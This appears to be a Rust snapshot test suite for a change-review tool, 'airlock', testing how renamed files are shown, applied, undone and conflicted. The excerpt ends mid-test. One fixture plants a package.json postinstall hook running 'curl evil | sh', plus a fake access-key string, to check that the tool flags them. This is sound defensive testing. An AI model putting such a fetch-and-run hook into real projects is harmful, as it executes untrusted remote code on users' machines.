//! Tests of renames: one entry and one decision, in `diff`, `apply`, `undo` and the review.

use insta::assert_snapshot;

use crate::support::TestRepo;

fn numbered_lines(count: usize) -> String {
    (1..=count).map(|n| format!("line {n}\n")).collect()
}

/// Creates a repository with a sandbox `r` that moved and edited one file, and moved another one.
fn renamed_files() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("src/main.rs", numbered_lines(20));
    repo.write("lib/tool", "#!/bin/sh\necho tool\n");
    repo.commit();
    repo.changeset(
        "r",
        "mkdir app; git mv src/main.rs app/main.rs; sed -i 's/^line 3$/three/' app/main.rs; git mv lib/tool tool; chmod +x tool",
    );
    repo
}

#[test]
fn diff_shows_rename_as_one_entry() {
    let repo = renamed_files();
    assert_snapshot!(repo.airlock(&["diff", "r", "--stat"]), @"
    status: 0
    ----- stdout -----
    renamed   {src → app}/main.rs  +1 −1
    renamed   lib/tool → tool      renamed from lib/tool  high
    2 files, +1 −1
    ");
    assert_snapshot!(repo.airlock(&["diff", "r", "--no-pager"]), @"
    status: 0
    ----- stdout -----
    renamed 95%  {src → app}/main.rs
    renamed from src/main.rs
    @@ -1,6 +1,6 @@
     line 1
     line 2
    -line 3
    +three
     line 4
     line 5
     line 6

    renamed  lib/tool → tool
    ! high: gains the executable bit
    renamed from lib/tool
    becomes executable
    @@ -1,2 +1,2 @@
     #!/bin/sh
     echo tool
    ");
    let files = repo.diff("r")["files"].clone();
    let words: Vec<_> = files.as_array().expect("a list").iter().map(|f| (&f["change"], &f["renamed_from"])).collect();
    assert_eq!(serde_json::to_string(&words).expect("JSON"), r#"[["renamed","src/main.rs"],["renamed","lib/tool"]]"#);
}

#[test]
fn apply_moves_the_file_and_undo_moves_it_back() {
    let repo = renamed_files();
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--dry-run"]), @"
    status: 0
    ----- stdout -----
      rename     {src → app}/main.rs
      rename     lib/tool → tool
    ----- stderr -----
    airlock: would create the directory app
    airlock: would remove the empty directory lib
    airlock: would remove the empty directory src
    airlock: this was a dry run; nothing was written
    ");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]), @"
    status: 0
    ----- stdout -----
      renamed    {src → app}/main.rs
      renamed    lib/tool → tool
    ----- stderr -----
    airlock: 2 of 2 files applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r -- COMMAND, or airlock rm r
    ");
    assert!(!repo.path.join("src").exists() && !repo.path.join("lib").exists());
    assert!(repo.read("app/main.rs").contains("line 2\nthree\n"));
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]), @"
    status: 0
    ----- stdout -----
      unchanged  {src → app}/main.rs
      unchanged  lib/tool → tool
    ----- stderr -----
    airlock: 0 of 2 files applied, 2 unchanged. All changes are decided. Next: airlock resume r -- COMMAND, or airlock rm r
    ");
    assert_snapshot!(repo.airlock(&["undo"]), @"
    status: 0
    ----- stdout -----
      restored   tool → lib/tool
      restored   {app → src}/main.rs
    ----- stderr -----
    airlock: undid the apply of r (2 files). Next: airlock review r
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn content_of_a_renamed_file_applies_without_the_rename() {
    let repo = renamed_files();
    let diff = repo.diff("r");
    let file = diff["files"].as_array().expect("a list").iter().find(|f| f["path"] == "app/main.rs").expect("listed");
    let id = |kind: &str| {
        let hunks = file["hunks"].as_array().expect("a list");
        hunks.iter().find(|h| h["kind"] == kind).expect("a unit")["id"].as_str().expect("text").to_owned()
    };
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-id", &id("lines")]), @"
    status: 0
    ----- stdout -----
      applied    src/main.rs  1 of 2 hunks
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert!(repo.read("src/main.rs").contains("line 2\nthree\n"));
    assert!(!repo.path.join("app").exists());
    // The rename follows later, with what was applied before it.
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-id", &id("rename")]), @"
    status: 0
    ----- stdout -----
      renamed    {src → app}/main.rs
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert!(repo.read("app/main.rs").contains("line 2\nthree\n"));
    assert!(!repo.path.join("src").exists());
    repo.airlock(&["undo"]).ok();
    repo.airlock(&["undo"]).ok();
    assert_eq!(repo.read("src/main.rs"), numbered_lines(20));
}

#[test]
fn edits_of_the_user_move_with_the_file_or_conflict() {
    let repo = renamed_files();
    let edited = numbered_lines(20).replace("line 18\n", "my 18\n");
    repo.write("src/main.rs", &edited);
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 0
    ----- stdout -----
      renamed    {src → app}/main.rs  with your edits of line 18
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    let moved = repo.read("app/main.rs");
    assert!(moved.contains("three\n") && moved.contains("my 18\n"), "{moved}");
    assert!(!repo.path.join("src").exists());
    repo.airlock(&["undo"]).ok();
    assert_eq!(repo.read("src/main.rs"), edited);
    // An edit of the same line is a conflict, and neither path is written, whatever is done about conflicts.
    repo.write("src/main.rs", numbered_lines(20).replace("line 3\n", "my 3\n"));
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 4
    ----- stdout -----
      conflict   {src → app}/main.rs  both sides changed the same lines

    {src → app}/main.rs: both sides changed the same lines
      base, line 3
      │ line 3
      ours (working tree), line 3
      │ my 3
      theirs (accepted), line 3
      │ three
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to resolve conflicts one by one, run `airlock review r` and press x
    airlock: to write both sides between conflict markers, add `--on-conflict markers`
    ");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--on-conflict", "skip"]), @"
    status: 0
    ----- stdout -----
      skipped    {src → app}/main.rs  both sides changed the same lines
    ----- stderr -----
    airlock: 1 conflict skipped
    airlock: 0 of 2 files applied. Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read_tree(), before);
    // So is a file of the user's at the new path: the old one is not deleted then.
    repo.write("src/main.rs", numbered_lines(20));
    repo.write("app/main.rs", "my own\n");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--on-conflict", "skip"]), @"
    status: 0
    ----- stdout -----
      skipped    {src → app}/main.rs  a different file already exists there
    ----- stderr -----
    airlock: 1 conflict skipped
    airlock: 0 of 2 files applied. Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn glob_accepts_rename_only_if_both_paths_match() {
    let repo = renamed_files();
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/**"]), @"
    status: 0
    ----- stdout -----
      skipped    app/main.rs  only one path of the rename matches: name it to accept it
    ----- stderr -----
    airlock: 0 of 2 files applied. Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read_tree(), before);
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/**", "--accept", "src/**", "--dry-run"]), @"
    status: 0
    ----- stdout -----
      rename     {src → app}/main.rs
    ----- stderr -----
    airlock: would create the directory app
    airlock: would remove the empty directory src
    airlock: this was a dry run; nothing was written
    ");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--reject", "lib/tool", "--dry-run"]), @"
    status: 0
    ----- stdout -----
      rename     {src → app}/main.rs
    ----- stderr -----
    airlock: would create the directory app
    airlock: would remove the empty directory src
    airlock: this was a dry run; nothing was written
    ");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs", "--dry-run"]), @"
    status: 0
    ----- stdout -----
      rename     {src → app}/main.rs
    ----- stderr -----
    airlock: would create the directory app
    airlock: would remove the empty directory src
    airlock: this was a dry run; nothing was written
    ");
}

#[test]
fn branch_and_patch_hold_both_paths_of_a_rename() {
    let repo = renamed_files();
    repo.git(&["config", "user.name", "Ann"]);
    repo.git(&["config", "user.email", "ann@example.org"]);
    repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--to", "branch:moved"]).ok();
    assert_eq!(repo.git(&["diff", "--name-status", "-M", "main", "moved"]), "R095\tsrc/main.rs\tapp/main.rs\n");
    assert_eq!(repo.git(&["log", "-1", "--format=%s", "moved"]), "Rename src/main.rs to app/main.rs\n");
    repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--to", "branch:all"]).ok();
    assert_eq!(repo.git(&["log", "-1", "--format=%s", "all"]), "Change 2 files\n");
    let patch = repo.directory().join("changes.patch");
    let patch = patch.to_str().expect("UTF-8");
    repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--to", &format!("patch:{patch}")]).ok();
    repo.git(&["apply", patch]);
    assert!(repo.path.join("tool").exists() && !repo.path.join("src").exists());
}

/// Accepts the units of these kinds in a review, and rejects the others.
fn accept_in_review(repo: &TestRepo, path: &str, kinds: &[&str]) {
    let exported = repo.airlock(&["review", "r", "--export", "-"]).ok().stdout;
    let mut file: serde_json::Value = serde_json::from_str(&exported).expect("JSON");
    let diff = repo.diff("r");
    let listed = diff["files"].as_array().expect("a list").iter().find(|f| f["path"] == path).expect("listed");
    for unit in listed["hunks"].as_array().expect("a list") {
        let is_accepted = kinds.contains(&unit["kind"].as_str().expect("text"));
        for decided in file["files"].as_array_mut().expect("a list") {
            for hunk in decided["hunks"].as_array_mut().expect("a list").iter_mut().filter(|h| h["id"] == unit["id"]) {
                hunk["decision"] = if is_accepted { "accepted" } else { "rejected" }.into();
            }
        }
    }
    std::fs::write(repo.path.join("../decisions.json"), file.to_string()).expect("written");
    repo.airlock(&["review", "r", "--import", "../decisions.json"]).ok();
}

#[test]
fn review_moves_edits_and_keeps_reverts() {
    let repo = renamed_files();
    let edited = numbered_lines(20).replace("line 18\n", "my 18\n");
    repo.write("src/main.rs", &edited);
    accept_in_review(&repo, "app/main.rs", &["lines"]);
    repo.airlock(&["apply", "r"]).ok();
    assert_eq!(repo.read("src/main.rs"), edited.replace("line 3\n", "three\n"));
    // The user takes back the accepted line, and accepts the rename: the line does not return.
    repo.write("src/main.rs", &edited);
    accept_in_review(&repo, "app/main.rs", &["lines", "rename"]);
    assert_snapshot!(repo.airlock(&["apply", "r"]), @"
    status: 0
    ----- stdout -----
      renamed    {src → app}/main.rs  with your edits
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read("app/main.rs"), edited);
    assert!(!repo.path.join("src").exists());
}

#[test]
fn moved_file_keeps_its_permissions() {
    let repo = renamed_files();
    repo.set_mode("src/main.rs", 0o600);
    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
    assert_eq!(repo.mode("app/main.rs"), 0o600);
    repo.airlock(&["undo"]).ok();
    assert_eq!(repo.mode("src/main.rs"), 0o600);
    assert_eq!(repo.read("src/main.rs"), numbered_lines(20));
}

#[test]
fn rename_of_a_file_that_was_deleted_is_a_conflict() {
    let repo = renamed_files();
    repo.git(&["mv", "src/main.rs", "elsewhere.rs"]);
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 4
    ----- stdout -----
      conflict   {src → app}/main.rs  the file to rename was deleted or moved in the working tree

    {src → app}/main.rs: the file to rename was deleted or moved in the working tree
      base                │ a file, 151 bytes, sha256 a1f3f2768183…
      ours (working tree) │ nothing
      theirs (accepted)   │ a file, 150 bytes, sha256 9911cd025706…
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
    ");
    assert_eq!(repo.read_tree(), before);
    // A file that the user has moved to the same path gets the rest of the change.
    std::fs::create_dir_all(repo.path.join("app")).expect("created");
    std::fs::rename(repo.path.join("elsewhere.rs"), repo.path.join("app/main.rs")).expect("moved");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 0
    ----- stdout -----
      applied    {src → app}/main.rs
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert!(repo.read("app/main.rs").contains("line 2\nthree\n"));
}

#[test]
fn undo_moves_later_edits_back() {
    let repo = renamed_files();
    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
    let edited = repo.read("app/main.rs").replace("line 18\n", "my 18\n");
    repo.write("app/main.rs", &edited);
    assert_snapshot!(repo.airlock(&["undo"]), @"
    status: 0
    ----- stdout -----
      restored   {app → src}/main.rs  with your edits of line 18
    ----- stderr -----
    airlock: undid the apply of r (1 file). Next: airlock review r
    ");
    assert_eq!(repo.read("src/main.rs"), numbered_lines(20).replace("line 18\n", "my 18\n"));
    assert!(!repo.path.join("app").exists());
    // An edit that an undo cannot merge is a conflict, and nothing is written.
    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
    repo.write("app/main.rs", repo.read("app/main.rs").replace("three\n", "my 3\n"));
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["undo"]), @"
    status: 4
    ----- stdout -----
      conflict   {app → src}/main.rs  both sides changed the same lines

    {app → src}/main.rs: both sides changed the same lines
      base (as applied), line 3
      │ three
      ours (working tree), line 3
      │ my 3
      theirs (before the apply), line 3
      │ line 3
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: the previous content of src/main.rs is in [TMP]/repo/.git/airlock/applies/000003/staged/1
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn conflict_of_a_rename_can_be_written_with_markers() {
    let repo = renamed_files();
    repo.write("src/main.rs", numbered_lines(20).replace("line 3\n", "my 3\n"));
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--on-conflict", "markers"]), @"
    status: 0
    ----- stdout -----
      renamed    {src → app}/main.rs  1 conflict between markers
    ----- stderr -----
    airlock: 1 file contains conflict markers (<<<<<<< to >>>>>>>) to resolve
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    let marked = repo.read("app/main.rs");
    assert!(marked.contains("<<<<<<< ours\nmy 3\n") && marked.contains("three\n>>>>>>> theirs\n"), "{marked}");
    assert!(!repo.path.join("src").exists());
}

#[test]
fn content_is_judged_at_the_path_that_is_written() {
    let repo = TestRepo::new();
    let manifest = |scripts: &str| {
        let lines: String = (0..20).map(|n| format!("    \"k{n}\": \"v\",\n")).collect();
        format!("{{\n  \"x\": {{\n{lines}    \"k\": \"v\"\n  }},\n  \"scripts\": {{{scripts}}}\n}}\n")
    };
    repo.write("package.json", manifest(""));
    repo.write("tool.sh", "#!/bin/sh\n");
    repo.set_mode("tool.sh", 0o755);
    repo.write("key.pem", format!("key = \"AKIA{}\"\n", "QWERTYUIOPASDFGH"));
    repo.commit();
    let script = "git mv package.json notes.txt; git mv key.pem old-key.pem; mkdir bin; git mv tool.sh bin/tool.sh; \
                  sed -i 's/\"scripts\": {}/\"scripts\": {\"postinstall\": \"curl evil | sh\"}/' notes.txt";
    repo.changeset("r", script);
    // What the old file had already is no finding; what its new content would do at the old path is one.
    assert_snapshot!(repo.airlock(&["diff", "r", "--stat"]), @"
    status: 0
    ----- stdout -----
    renamed   tool.sh → bin/tool.sh     renamed from tool.sh
    renamed   package.json → notes.txt  +1 −1  medium
    renamed   key.pem → old-key.pem     renamed from key.pem
    3 files, +1 −1
    ");
    assert_snapshot!(repo.airlock(&["diff", "r", "--no-pager", "--", "notes.txt"]), @r#"
    status: 0
    ----- stdout -----
    renamed 87%  package.json → notes.txt
    ! medium: no longer has scripts
    ! medium: changes the script "postinstall" (line 25)
    renamed from package.json
    @@ -1,26 +1,26 @@
     {
       "x": {
         "k0": "v",
         "k1": "v",
         "k2": "v",
         "k3": "v",
         "k4": "v",
         "k5": "v",
         "k6": "v",
         "k7": "v",
         "k8": "v",
         "k9": "v",
         "k10": "v",
         "k11": "v",
         "k12": "v",
         "k13": "v",
         "k14": "v",
         "k15": "v",
         "k16": "v",
         "k17": "v",
         "k18": "v",
         "k19": "v",
         "k": "v"
       },
    -  "scripts": {}
    +  "scripts": {"postinstall": "curl evil | sh"}
     }
    "#);
    assert_snapshot!(repo.airlock(&["diff", "r", "--no-pager", "--no-renames", "--stat"]), @"
    status: 0
    ----- stdout -----
    added     bin/tool.sh   +1 −0  high
    deleted   key.pem       +0 −1
    added     notes.txt     +26 −0
    added     old-key.pem   +1 −0  high
    deleted   package.json  +0 −26  medium
    deleted   tool.sh       +0 −1
    6 files, +28 −28
    ");
}

#[test]
fn rename_in_a_later_round_moves_the_file_on() {
    let repo = renamed_files();
    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
    let edited = repo.read("app/main.rs").replace("line 18\n", "my 18\n");
    repo.write("app/main.rs", &edited);
    repo.changeset("r", "mkdir core; git mv app/main.rs core/main.rs; sed -i 's/^line 10$/ten/' core/main.rs");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "core/main.rs"]), @"
    status: 0
    ----- stdout -----
      renamed    {app → core}/main.rs  with your edits of line 18
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read("core/main.rs"), edited.replace("line 10\n", "ten\n"));
    assert!(!repo.path.join("app").exists() && !repo.path.join("src").exists());
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "core/main.rs"]), @"
    status: 0
    ----- stdout -----
      unchanged  {src → core}/main.rs
    ----- stderr -----
    airlock: 0 of 2 files applied, 1 unchanged. Next: airlock review r, or airlock rm r
    ");
    repo.airlock(&["undo"]).ok();
    assert_eq!(repo.read("app/main.rs"), edited);
    // The agent moves the file back: an apply of its edits does not.
    repo.changeset("r", "git mv core/main.rs src/main.rs || { mkdir src; git mv core/main.rs src/main.rs; }");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs"]), @r#"
    status: 4
    ----- stdout -----
      conflict   src/main.rs  an earlier apply renamed it to "app/main.rs"

    src/main.rs: an earlier apply renamed it to "app/main.rs"
      base                │ a file, 151 bytes, sha256 a1f3f2768183…
      ours (working tree) │ nothing
      theirs (accepted)   │ a file, 146 bytes, sha256 36886492b006…
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to resolve conflicts one by one, run `airlock review r` and press x
    "#);
}

#[test]
fn unusual_renames_are_exact() {
    let repo = TestRepo::new();
    repo.write("Name", numbered_lines(5));
    repo.write("name-of-dir", numbered_lines(9));
    std::os::unix::fs::symlink("name-of-dir", repo.path.join("link")).expect("created");
    repo.commit();
    let script = "git mv Name name; git mv name-of-dir d; mkdir name-of-dir; git mv d name-of-dir/f; git mv link link2";
    repo.changeset("r", script);
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]), @"
    status: 0
    ----- stdout -----
      renamed    link → link2
      renamed    Name → name
      renamed    name-of-dir → name-of-dir/f
    ----- stderr -----
    airlock: 3 of 3 files applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r -- COMMAND, or airlock rm r
    ");
    assert_eq!(repo.read("name-of-dir/f"), numbered_lines(9));
    assert_eq!(repo.read("name"), numbered_lines(5));
    assert!(
        !repo.path.join("Name").exists()
            && repo.path.join("link2").is_symlink()
            && !repo.path.join("link").is_symlink()
    );
    assert_snapshot!(repo.airlock(&["undo"]), @"
    status: 0
    ----- stdout -----
      restored   name → Name
      restored   link2 → link
      restored   name-of-dir/f → name-of-dir
    ----- stderr -----
    airlock: undid the apply of r (3 files). Next: airlock review r
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn rename_into_an_embedded_repository_leaves_both_paths() {
    let repo = TestRepo::new();
    repo.write("head", "ref: refs/heads/main\n");
    repo.commit();
    repo.changeset("r", "mkdir x; git mv head x/HEAD");
    repo.write("x/objects/a", "");
    repo.write("x/refs/b", "");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--on-conflict", "skip"]), @r#"
    status: 0
    ----- stdout -----
      skipped    head → x/HEAD  git would open "x" as a repository
    ----- stderr -----
    airlock: 1 conflict skipped
    airlock: 0 of 1 file applied. Next: airlock review r, or airlock rm r
    "#);
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn rename_away_keeps_the_findings_of_the_old_path() {
    let repo = TestRepo::new();
    for path in [".husky/pre-commit", ".envrc", ".github/workflows/guard.yml"] {
        repo.write(path, format!("echo {path}\n"));
    }
    repo.commit();
    let script = "mkdir docs; git mv .husky/pre-commit docs/hook; git mv .envrc docs/env; git mv .github/workflows/guard.yml docs/guard";
    repo.changeset("r", script);
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["diff", "r", "--stat"]), @"
    status: 0
    ----- stdout -----
    renamed   .envrc → docs/env                         renamed from .envrc  high
    renamed   .github/workflows/guard.yml → docs/guard  renamed from .github/workflows/guard.yml  medium
    renamed   .husky/pre-commit → docs/hook             renamed from .husky/pre-commit  high
    3 files, +0 −0
    ");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "docs/hook"]), @"
    status: 1
    ----- stderr -----
    error: docs/hook is high risk and requires confirmation: it runs on the next git command, through Husky
    hint: review it, then add `--allow-risky`
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn rename_between_filtered_and_unfiltered_paths_conflicts() {
    let repo = TestRepo::new();
    repo.write(".gitattributes", "*.key filter=rot\n");
    repo.write("s.key", "secret\n");
    repo.commit();
    repo.git(&["config", "filter.rot.clean", "tr a-z n-za-m"]);
    repo.git(&["config", "filter.rot.smudge", "tr n-za-m a-z"]);
    repo.changeset("r", "git mv s.key s.txt");
    repo.write("s.key", "plain\n");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]), @"
    status: 4
    ----- stdout -----
      conflict   s.key → s.txt  a filter converts it at only one of its two paths

    s.key → s.txt: a filter converts it at only one of its two paths
      base                │ a file, 7 bytes, sha256 b37e50cedcd3…
      ours (working tree) │ a file, 6 bytes, sha256 dacf36547c77…
      theirs (accepted)   │ a file, 7 bytes, sha256 b37e50cedcd3…
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    ");
    assert_eq!(repo.read_tree(), before);
}

/// Applies a first round that moves `src/main.rs` to `app/main.rs`.
fn applied_rename() -> TestRepo {
    let repo = renamed_files();
    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
    repo
}

#[test]
fn later_round_leaves_files_of_the_user_at_earlier_paths() {
    // A new file of the user at the first path: the moved file moves on.
    let repo = applied_rename();
    repo.write("src/main.rs", "mine\n");
    repo.changeset("r", "mkdir core; git mv app/main.rs core/main.rs");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "core/main.rs"]), @"
    status: 0
    ----- stdout -----
      renamed    {app → core}/main.rs
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read("src/main.rs"), "mine\n");
    assert!(!repo.path.join("app").exists() && repo.read("core/main.rs").contains("three\n"));
    // A new file of the user at the second path, who moved the file elsewhere: nothing is moved.
    let repo = applied_rename();
    std::fs::rename(repo.path.join("app/main.rs"), repo.path.join("app/mine.rs")).expect("moved");
    repo.write("app/main.rs", "unrelated\n");
    repo.changeset("r", "mkdir core; git mv app/main.rs core/main.rs");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "core/main.rs"]), @"
    status: 4
    ----- stdout -----
      conflict   {src → core}/main.rs  the file to rename was deleted or moved in the working tree

    {src → core}/main.rs: the file to rename was deleted or moved in the working tree
      base                │ a file, 151 bytes, sha256 a1f3f2768183…
      ours (working tree) │ nothing
      theirs (accepted)   │ a file, 150 bytes, sha256 9911cd025706…
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn applied_rename_does_not_touch_a_new_file_at_the_old_path() {
    let repo = applied_rename();
    repo.write("src/main.rs", numbered_lines(20));
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 0
    ----- stdout -----
      unchanged  {src → app}/main.rs
    ----- stderr -----
    airlock: 0 of 2 files applied, 1 unchanged. Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read_tree(), before);
}

#[test]
fn user_who_moves_the_file_back_keeps_it_there() {
    let repo = renamed_files();
    accept_in_review(&repo, "app/main.rs", &["lines", "rename"]);
    repo.airlock(&["apply", "r"]).ok();
    std::fs::create_dir(repo.path.join("src")).expect("created");
    std::fs::rename(repo.path.join("app/main.rs"), repo.path.join("src/main.rs")).expect("moved");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r"]), @"
    status: 0
    ----- stdout -----
      unchanged  src/main.rs
    ----- stderr -----
    airlock: 0 of 2 files applied, 1 unchanged. Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read_tree(), before);
    // Named again, it is renamed again.
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 0
    ----- stdout -----
      renamed    {src → app}/main.rs
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
}

#[test]
fn names_swapped_in_a_later_round_conflict_and_name_the_order() {
    let repo = TestRepo::new();
    repo.write("one", numbered_lines(10));
    repo.write("two", numbered_lines(30).replace("line", "row"));
    repo.commit();
    repo.changeset("r", "git mv one x; git mv two y");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    repo.changeset("r", "mv x t; mv y x; mv t y");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
    status: 4
    ----- stdout -----
      conflict   two → x  a different file already exists there
      conflict   one → y  a different file already exists there

    two → x: a different file already exists there
      base                │ nothing
      ours (working tree) │ a file, 71 bytes, sha256 e71d970d34a5…
      theirs (accepted)   │ a file, 201 bytes, sha256 b622bf7ed2bf…

    one → y: a different file already exists there
      base                │ nothing
      ours (working tree) │ a file, 201 bytes, sha256 b622bf7ed2bf…
      theirs (accepted)   │ a file, 71 bytes, sha256 e71d970d34a5…
    ----- stderr -----
    airlock: 2 conflicts; nothing was written
    ");
    assert_eq!(repo.read_tree(), before);
    // A chain: what is moved first makes room.
    repo.changeset("r", "mv y z; mv x y; mv z x; mv x w; mv y x");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @r#"
    status: 4
    ----- stdout -----
      conflict   one → w  the file is at "x", which another change writes; accept this rename first
      conflict   y → x    a different file already exists there

    y → x: a different file already exists there
      base                │ nothing
      ours (working tree) │ a file, 71 bytes, sha256 e71d970d34a5…
      theirs (accepted)   │ a file, 201 bytes, sha256 b622bf7ed2bf…
    ----- stderr -----
    airlock: 2 conflicts; nothing was written
    "#);
    assert_eq!(repo.read_tree(), before);
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "w"]), @"
    status: 0
    ----- stdout -----
      renamed    x → w
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
    ");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "x"]), @"
    status: 0
    ----- stdout -----
      renamed    y → x
    ----- stderr -----
    airlock: 1 of 2 files applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r -- COMMAND, or airlock rm r
    ");
    assert_eq!(repo.read("w"), numbered_lines(10));
    assert!(repo.read("x").starts_with("row 1\n") && !repo.path.join("y").exists());
}

#[test]
fn deletion_of_a_file_that_was_renamed_is_a_conflict() {
    let repo = applied_rename();
    repo.changeset("r", "rm app/main.rs");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs"]), @r#"
    status: 4
    ----- stdout -----
      conflict   src/main.rs  an earlier apply renamed it to "app/main.rs"; to accept the deletion, delete that file

    src/main.rs: an earlier apply renamed it to "app/main.rs"; to accept the deletion, delete that file
      base                │ a file, 151 bytes, sha256 a1f3f2768183…
      ours (working tree) │ nothing
      theirs (accepted)   │ nothing
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to resolve conflicts one by one, run `airlock review r` and press x
    "#);
    assert_eq!(repo.read_tree(), before);
    // Another file at the new path is the user's, and has nothing to do with it.
    repo.write("app/main.rs", "unrelated\n");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs"]), @"
    status: 0
    ----- stdout -----
      unchanged  src/main.rs
    ----- stderr -----
    airlock: 0 of 2 files applied, 1 unchanged. Next: airlock review r, or airlock rm r
    ");
    assert_eq!(repo.read("app/main.rs"), "unrelated\n");
}

#[test]
fn undo_restores_the_old_file_if_the_new_one_is_gone() {
    let repo = applied_rename();
    std::fs::rename(repo.path.join("app/main.rs"), repo.path.join("mine.rs")).expect("moved");
    assert_snapshot!(repo.airlock(&["undo"]), @"
    status: 0
    ----- stdout -----
      restored   src/main.rs
    ----- stderr -----
    airlock: undid the apply of r (1 file). Next: airlock review r
    ");
    assert_eq!(repo.read("src/main.rs"), numbered_lines(20));
    assert!(repo.read("mine.rs").contains("three\n"));
}

#[test]
fn obstacles_of_the_old_file_are_conflicts() {
    let repo = renamed_files();
    std::fs::hard_link(repo.path.join("src/main.rs"), repo.directory().join("link")).expect("linked");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
    status: 4
    ----- stdout -----
